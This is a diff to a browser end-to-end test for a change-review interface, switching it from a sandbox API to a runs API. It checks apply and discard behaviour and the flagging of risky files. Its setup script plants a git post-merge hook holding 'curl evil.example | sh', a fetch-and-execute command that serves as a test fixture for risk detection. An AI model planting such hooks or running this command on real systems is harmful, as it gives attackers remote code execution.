@@ -121,22 +121,21 @@ def test_questions_are_answered(browser):
 
 
 def make_changes(site):
-    """A sandbox whose changes a test may apply and discard."""
-    box = site.call("POST", "/v1/sandboxes", {"labels": {"name": "to review"}}).json()["id"]
+    """A run whose changes a test may apply and discard."""
     script = "mkdir -p .git/hooks; echo 'curl evil.example | sh' >.git/hooks/post-merge; chmod +x .git/hooks/post-merge; seq 30 >'a [1] file.txt'; echo drop >drop.txt"
-    a = site.call("POST", f"/v1/sandboxes/{box}/exec", {"command": ["sh", "-c", script]})
-    assert a.json()["status"] == 0, a
-    return box
+    a = site.call("POST", "/v1/runs", {"command": ["sh", "-c", script], "wait": 600}).json()
+    assert a["status"] == 0, a
+    return a["id"]
 
 
 def test_changes_are_reviewed(browser):
     b, site = browser, browser.site
-    box = make_changes(site)
-    assert site.call("GET", f"/v1/sandboxes/{box}/file?path=drop.txt").status == 404, "the changes are not in the workspace yet"
+    run = make_changes(site)
+    assert site.call("GET", f"/v1/runs/{run}/file?path=drop.txt").status == 404, "the changes are not in the workspace yet"
     b.go("review")
-    b.wait(f"document.querySelector('a[href=\"#/review/sandboxes/{box}\"]')")
+    b.wait(f"document.querySelector('a[href=\"#/review/runs/{run}\"]')")
     b.keep("review-list")
-    b.go(f"review/sandboxes/{box}")
+    b.go(f"review/runs/{run}")
     b.wait("document.querySelector('.files button[aria-current] .badge')?.textContent === 'high'")
     assert "post-merge" in b.text(".files button[aria-current]") and "git-hook" in b.text(".risks")
     b.keep("review")
@@ -149,17 +148,17 @@ def test_changes_are_reviewed(browser):
     assert b.run("return document.querySelectorAll('.diff .code.new.cell-add').length") == 30
     b.press("Apply")
     b.wait("!document.querySelector('.files button[data-path=\"a [1] file.txt\"]') && document.querySelector('.files')")
-    assert site.call("GET", f"/v1/sandboxes/{box}/file?path=a%20%5B1%5D%20file.txt").body == b"".join(b"%d\n" % i for i in range(1, 31))
+    assert site.call("GET", f"/v1/runs/{run}/file?path=a%20%5B1%5D%20file.txt").body == b"".join(b"%d\n" % i for i in range(1, 31))
     choose("drop.txt")
     b.press("Discard")
     b.press("Really discard?")
     b.wait("!document.querySelector('.files button[data-path=\"drop.txt\"]') && document.querySelector('.files')")
-    assert site.call("GET", f"/v1/sandboxes/{box}/file?path=drop.txt").status == 404
+    assert site.call("GET", f"/v1/runs/{run}/file?path=drop.txt").status == 404
     b.keys("j")
     b.keys("k")
     choose(".git/hooks/post-merge")
     b.press("Apply")
-    assert site.call("GET", f"/v1/sandboxes/{box}/file?path=.git/hooks/post-merge").status == 404, "what is risky is asked for twice"
+    assert site.call("GET", f"/v1/runs/{run}/file?path=.git/hooks/post-merge").status == 404, "what is risky is asked for twice"
     quiet(b)
 
 
